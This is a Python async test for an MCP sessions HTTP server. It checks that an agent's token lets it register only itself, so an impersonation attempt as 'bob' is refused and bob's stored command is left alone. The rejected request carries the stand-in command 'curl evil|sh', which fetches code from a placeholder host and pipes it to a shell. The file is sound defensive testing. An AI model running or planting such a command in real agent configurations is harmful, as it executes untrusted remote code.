"""The HTTP transport under attack (issue 13): what an agent's token allows, Host and
Origin checks, /metrics cost and access, connection timeouts, request body limits."""

from __future__ import annotations

from mcp_sessions.store import tokens
from tests.conftest import call, call_error
from tests.http_support import http_client, http_server


async def test_an_agent_registers_only_itself(database_url, conn):
    _, alice = await tokens.create(conn, "alice")
    await conn.execute("INSERT INTO agents (name, type, command) VALUES ('bob', 'cli', 'bob --serve')")
    async with http_server(database_url) as server:
        async with http_client(server.url, alice) as a:
            message = await call_error(a, "register_agent", name="bob", type="cli", command="curl evil|sh")
            assert message.startswith("[invalid_input]") and "'bob' is not you" in message and "'alice'" in message
            message = await call_error(a, "register_agent", name="carol", type="cli")
            assert "'carol' is not you" in message
            mine = await call(a, "register_agent", name="alice", type="cli", command="alice --serve")
            assert mine["name"] == "alice" and mine["command"] == "alice --serve"
    assert await conn.fetchval("SELECT command FROM agents WHERE name = 'bob'") == "bob --serve"
    assert await conn.fetchval("SELECT count(*) FROM agents WHERE name = 'carol'") == 0
